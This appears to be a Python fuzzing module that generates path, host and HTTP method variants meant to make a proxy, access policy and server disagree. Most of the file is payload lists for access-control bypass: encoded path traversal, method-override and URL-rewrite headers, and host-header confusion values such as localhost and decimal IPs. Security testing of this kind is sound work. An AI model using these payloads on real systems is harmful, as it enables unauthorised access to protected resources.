"""Ways to write a path, host or method so that proxy, policy and server may each read another one.

Each trick aims at `secret`, which no policy allows, from below `public`, which is open.
"""

import re
import unicodedata
from collections.abc import Callable, Iterator
from urllib.parse import unquote_to_bytes

_DOTS = ("..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e", "%25%32%65%25%32%65", "..;", "..;x=y", "%2e%2e%3b")
_MORE_DOTS = ("%c0%ae%c0%ae", "%C0%AE%C0%AE", "%e0%80%ae%e0%80%ae", "%u002e%u002e", "..%00", "..%20", "...", "..%09")
_SLASHES = ("/", "//", "/./", "/%2e/", "%2f", "%2F", "%252f", "%5c", "%5C", "\\", "%255c", "%c0%af", "%e2%88%95", "/;/")
_MORE_SLASHES = ("%u2215", "/;x=y/", "/%20/", "%ef%bc%8f", "%EF%BC%8F", "/%09/", "%2f%2f", "/.//", "%00/", "/%00/")
_ENDINGS = (
    *("/", "//", "/.", "/./", "/..;/secret", ";", ";a=b", ";.css", ".", "..", "%20", "%09", "%0a", "%0d%0a", "%00"),
    *(
        "%00.html",
        "%2500",
        ".json",
        "%2e",
        "%3b",
        "%3f",
        "%3F",
        "%23",
        "#",
        "#x",
        "?",
        "?x=y",
        "??",
        "?#",
        "%2f",
        "%5c",
    ),
    *("/%2e", "/%2e%2e/secret", "\\", "~", "$", "%", "%2", "%zz", "%E2%80%8B", "%C2%A0", "%EF%BB%BF", "/*", "&x", "!"),
)


def _climbing(public: str, secret: str) -> Iterator[str]:
    for dots in (*_DOTS, *_MORE_DOTS):
        for slash in ("/", "%2f", "\\", "%5c", "//"):
            yield f"{public}{slash}{dots}{slash}{secret}"
        yield f"{public}/x/{dots}/{dots}/{secret}"
        yield f"/{dots}/{secret}"


def _joined(public: str, secret: str) -> Iterator[str]:
    for slash in (*_SLASHES, *_MORE_SLASHES):
        yield f"{slash}{secret}"
        yield f"/{slash}{secret}"
        yield f"{public}/..{slash}{secret}"


def _spelt(secret: str) -> Iterator[str]:
    """The secret's own name in other spellings."""
    first, rest = secret[0], secret[1:]
    for code in (f"%{ord(first):02x}", f"%{ord(first):02X}", f"%25{ord(first):02x}", f"%u00{ord(first):02x}"):
        yield f"/{code}{rest}"
    yield "/" + "".join(f"%{ord(letter):02X}" for letter in secret)
    yield "/" + "".join(f"%25{ord(letter):02X}" for letter in secret)
    for hidden in ("\t", "\r", "\n", "\0", "%09", "%0d", "%00", "%E2%80%8B", "%C2%AD", "%E2%80%AE", "\u00ad"):
        yield f"/{first}{hidden}{rest}"
    yield from (f"/{secret}{ending}" for ending in _ENDINGS)


def _framed(secret: str) -> Iterator[str]:
    """Targets in another form than a path (RFC 9112 §3.2)."""
    yield from (secret, f"*/{secret}", f"?/{secret}", f"#/{secret}", f"//evil.example/{secret}", f"/http://x/{secret}")
    yield from (f"http://other.example/{secret}", f"https://other.example/{secret}", f"file:///{secret}")
    yield from (f"http:/{secret}", f"HTTP://other.example/{secret}", f"http://a@other.example/{secret}", f"@x/{secret}")


def paths(public: str, secret: str) -> tuple[str, ...]:
    """Every path once. `public` starts with a slash, `secret` is one segment's name."""
    found = (*_climbing(public, secret), *_joined(public, secret), *_spelt(secret), *_framed(secret))
    return tuple(dict.fromkeys(found))


METHODS = (
    *("get", "Get", "gET", "GET\u0130", "G\u00c9T", "GET,POST", "GET;", "*", "G", "GETGETGETGETGETGETGET", "HEADX"),
    *("TRACE", "TRACK", "CONNECT", "DEBUG", "PURGE", "PROPFIND", "MOVE", "COPY", "SEARCH", "LINK", "PRI", "QUERY"),
    *("DELETE", "PUT", "PATCH", "POST", "delete", "Delete", "DELETE%20", "DELETE/"),
)

OVERRIDES = tuple(
    (name, value)
    for name, value in (
        *((name, "DELETE") for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")),
        *((name, "DELETE") for name in ("x-http-method-override", "X-Http-Method-override")),
        *((name, "/secret") for name in ("X-Original-URL", "X-Rewrite-URL", "x-original-url", "X-REWRITE-URL")),
    )
)


def hosts(ours: str, other: str) -> tuple[str, ...]:
    """Ways to say `ours` and mean `other`, or neither."""
    return (
        *(other, f"{ours},{other}", f"{ours}, {other}", f"{ours} {other}", f"{other}@{ours}", f"{ours}@{other}"),
        *(f"{ours}.{other}", f"{other}.{ours}", f"{ours}:80@{other}", f"{ours}#@{other}", f"{ours}/{other}"),
        *(f"{ours}?{other}", f"{ours}\\{other}", f"{ours}\t{other}", f"{ours}%00{other}", f"{ours}%2f{other}"),
        *(f"{ours}..", f".{ours}", f"{ours}:", f"{ours}:0x50", f"{ours}:80:80", f"{ours}:-1"),
        *(f"[{ours}]", f"{ours}%", f"xn--{ours}", ours.replace("a", "\u0430", 1), ours.replace(".", "\u3002", 1)),
        *(ours.replace(".", "%2e", 1), ours.replace(".", "..", 1), f"*.{ours}", "*", "", " ", "localhost", "127.0.0.1"),
        *("[::1]", "0", "2130706433", f"http://{ours}", f"{ours}\0", f"{ours};", f"-{ours}", f"{ours}_", f"_.{ours}"),
    )


_Reading = Callable[[str], str]


def _without_dots(path: str) -> str:
    kept: list[str] = []
    for segment in path.split("/"):
        if segment == "..":
            del kept[-1:]
        elif segment != ".":
            kept.append(segment)
    return "/".join(["", *kept]) if not path.startswith("/") else "/".join(kept) or "/"


def _once_decoded(path: str) -> str:
    return unquote_to_bytes(path).decode("utf-8", errors="replace")


_READINGS: tuple[_Reading, ...] = (
    _once_decoded,
    _without_dots,
    lambda path: re.sub(r"/+", "/", path),
    lambda path: path.replace("\\", "/"),
    lambda path: re.sub(r";[^/]*", "", path),
    lambda path: re.split(r"[\0?#]", path)[0],
    lambda path: re.sub(r"[\t\r\n]", "", path),
    lambda path: re.sub(r"^[A-Za-z]+:/*[^/]*(?=/)", "", path),
    lambda path: "".join(c for c in path if unicodedata.category(c) != "Cf"),
)


def readings(path: str, steps: int = 5) -> set[str]:
    """Every path that a server may take this one for, by up to `steps` lenient steps in any order."""
    found = reached = {path}
    for _ in range(steps):
        reached = {read(each) for each in reached for read in _READINGS} - found
        found = found | reached
    return found
